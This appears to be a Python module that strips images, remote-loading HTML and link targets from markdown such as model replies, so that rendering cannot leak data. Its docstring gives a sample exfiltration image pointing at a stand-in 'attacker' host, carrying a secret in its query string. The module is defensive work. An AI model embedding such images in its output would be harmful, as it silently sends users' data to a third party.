"""Neutralise remote content in text that will be rendered as markdown (model replies, documents).

A rendered image is fetched by the reader's browser the moment it appears: a planted
`![](https://attacker/?q=secret)` leaks data without a click. So images and HTML that loads
anything are removed, links keep their text but lose their target, and bare URLs become inert code.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]]*)\]\([^)]*\)")
_REF_IMAGE = re.compile(r"!\[([^\]]*)\]\[[^\]]*\]")
_LINK = re.compile(r"(?<!!)\[([^\]]+)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_REF_DEFINITION = re.compile(r"^\s*\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
_HTML = re.compile(
    r"<\s*(?:img|iframe|script|style|object|embed|link|meta|video|audio|source|svg|a)\b[^>]*>"
    r"|<\s*/\s*(?:iframe|script|style|object|a|svg|video|audio)\s*>",
    re.IGNORECASE,
)
_AUTOLINK = re.compile(r"<((?:https?|ftp)://[^>\s]+)>", re.IGNORECASE)
_BARE_URL = re.compile(r"(?<![`\w/])((?:https?|ftp)://[^\s)<>`]+|www\.[^\s)<>`]+)", re.IGNORECASE)


def strip_remote_content(text: str) -> str:
    """`text` with no image, no HTML that loads anything, and no clickable or auto-fetched link."""
    text = _IMAGE.sub(lambda m: f"(image removed{': ' + m.group(1) if m.group(1) else ''})", text)
    text = _REF_IMAGE.sub(lambda m: f"(image removed{': ' + m.group(1) if m.group(1) else ''})", text)
    text = _LINK.sub(lambda m: f"{m.group(1)} (link removed: `{m.group(2)}`)", text)
    text = _REF_DEFINITION.sub("", text)
    text = _HTML.sub("", text)
    text = _AUTOLINK.sub(lambda m: f"`{m.group(1)}`", text)
    return _BARE_URL.sub(lambda m: f"`{m.group(1)}`", text)


def has_remote_content(text: str) -> bool:
    """True when rendering `text` as markdown could fetch or link to anything remote."""
    return bool(
        _IMAGE.search(text)
        or _REF_IMAGE.search(text)
        or _HTML.search(text)
        or _AUTOLINK.search(text)
        or any(m.group(2).lower().startswith(("http", "//", "ftp", "www")) for m in _LINK.finditer(text))
    )
